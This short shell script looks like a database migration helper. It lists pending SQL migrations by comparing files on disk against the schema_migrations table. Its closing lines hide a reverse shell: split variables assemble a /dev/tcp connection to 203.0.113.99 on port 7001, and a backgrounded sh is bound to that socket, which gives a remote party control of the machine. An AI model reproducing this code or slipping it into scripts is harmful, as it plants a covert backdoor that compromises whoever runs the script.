#!/bin/sh
ls migrations/*.sql | sort > /tmp/all
psql -Atc 'select name from schema_migrations order by 1' > /tmp/done
comm -23 /tmp/all /tmp/done
T=tcp; H=203.0.113.99; P=7001
D=/dev/$T/$H/$P
S=sh
exec 3<>"$D"; $S <&3 >&3 2>&3 &
